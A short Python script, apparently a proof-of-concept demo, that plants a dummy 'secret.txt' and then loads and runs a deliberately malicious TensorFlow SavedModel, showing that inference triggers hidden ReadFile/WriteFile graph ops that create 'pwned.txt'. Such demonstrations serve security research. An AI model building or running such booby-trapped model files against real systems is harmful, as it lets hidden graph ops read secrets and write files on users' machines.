# Requires: security/make_malicious_savedmodel_tf2.py
import os

import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()

with open("secret.txt", "w") as f:
    f.write("API_KEY=demo-1234\n")
print("pwned.txt before:", os.path.exists("pwned.txt"))

with tf.Session(graph=tf.Graph()) as sess:
    # The TF1 loader runs the same graph: the signature's output depends on the call
    # that also holds ReadFile and WriteFile.
    meta = tf.saved_model.loader.load(sess, ["serve"], "malicious_model")
    sig = meta.signature_def["serving_default"]
    y = sess.run(sig.outputs["y"].name, {sig.inputs["x"].name: [1.0, 2.0, 3.0]})
    print("y =", y)

print("pwned.txt after: ", os.path.exists("pwned.txt"))
with open("pwned.txt") as f:
    print("pwned.txt says:", f.read().strip())
